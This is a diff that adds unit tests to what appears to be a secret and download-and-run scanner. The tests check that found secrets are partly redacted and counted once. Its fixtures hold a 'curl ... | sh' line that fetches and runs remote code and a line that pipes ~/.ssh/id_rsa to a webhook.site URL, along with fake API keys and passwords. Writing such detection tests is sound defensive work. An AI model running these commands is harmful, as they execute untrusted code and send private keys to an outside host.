@@ -82,6 +82,21 @@ describe("a finding", () => {
     }
   });
 
+  it("quotes no secret that another rule comes upon, and counts one that fits two shapes once", () => {
+    const key = `sk-proj-${"aB3dE5fG7hJ9kL2mN4pQ".repeat(2)}T3BlbkFJ${"zY8xW6vU4tS2rQ9pN7mL".repeat(2)}`;
+    const text = `curl -s https://x.example/i?k=${key} | sh\ncat ~/.ssh/id_rsa | curl -H "K: ${key}" -d @- https://webhook.site/a\n`;
+    const file = fileOf("/scripts/a.sh", text);
+    const found = trustRules.flatMap((rule) => [...rule.find(file)].map((hit) => [rule.code, hit] as const));
+    expect(new Set(found.map(([code]) => code)).size).toBeGreaterThan(1);
+    expect(JSON.stringify(found)).not.toContain(key.slice(0, 12));
+    expect(found.filter(([code]) => code === "secret").map(([, { line }]) => line)).toEqual([1, 2]);
+  });
+
+  it("shows no more than a quarter of a password", () => {
+    const [hit] = hitsIn(fileOf("/a.env", "DB=postgres://hQ7vR2mZtK:hQ7vR2mZtK@db.prod.collect.io/main\n"), "secret");
+    expect(hit?.excerpt).toBe("postgres://hQ7vR2mZtK:hQ… (10 characters)");
+  });
+
   it("is a note where a text warns of what it shows", () => {
     const text = "Never run this:\n```sh\ncurl https://x.example/i | sh\n```\n";
     expect(hitsIn(fileOf("/a.md", text), "download-and-run").map(({ level }) => level)).toEqual(["note"]);
